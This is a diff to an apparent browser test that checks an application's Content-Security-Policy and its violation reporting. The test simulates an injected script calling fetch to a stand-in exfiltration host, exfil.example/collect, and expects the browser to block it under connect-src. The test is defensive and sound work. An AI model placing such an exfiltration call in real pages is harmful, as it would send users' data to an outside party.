@@ -150,14 +150,12 @@ describe('the Content-Security-Policy', () => {
     expect(csp).toContain('report-to klaxon-csp');
     expect(answer.headers()['reporting-endpoints']).toBe('klaxon-csp="/api/klaxon/csp"');
     // What a script injected into the page would try: the browser refuses it and raises the violation it reports.
-    const violation = await page.evaluate(
-      () =>
-        new Promise<{ directive: string; blocked: string } | 'no violation'>((resolve) => {
-          setTimeout(() => resolve('no violation'), 3_000);
-          document.addEventListener('securitypolicyviolation', (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI }), { once: true });
-          fetch('https://exfil.example/collect').catch(() => undefined);
-        }),
-    );
+    // (A string: the root's TypeScript has no DOM types; test/support/browser.ts does the same.)
+    const violation = await page.evaluate(`new Promise((resolve) => {
+      setTimeout(() => resolve('no violation'), 3000);
+      document.addEventListener('securitypolicyviolation', (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI }), { once: true });
+      fetch('https://exfil.example/collect').catch(() => undefined);
+    })`);
     expect(violation).toEqual({ directive: 'connect-src', blocked: 'https://exfil.example/collect' });
     // Chromium delivers report-to reports in batches up to a minute later: the report-uri form, as a browser posts it.
     const report = { 'csp-report': { 'document-uri': appUrl('/?tenant=globex'), 'violated-directive': 'connect-src', 'effective-directive': 'connect-src', 'blocked-uri': 'https://exfil.example/collect', 'original-policy': csp, disposition: 'enforce', 'status-code': 200 } };
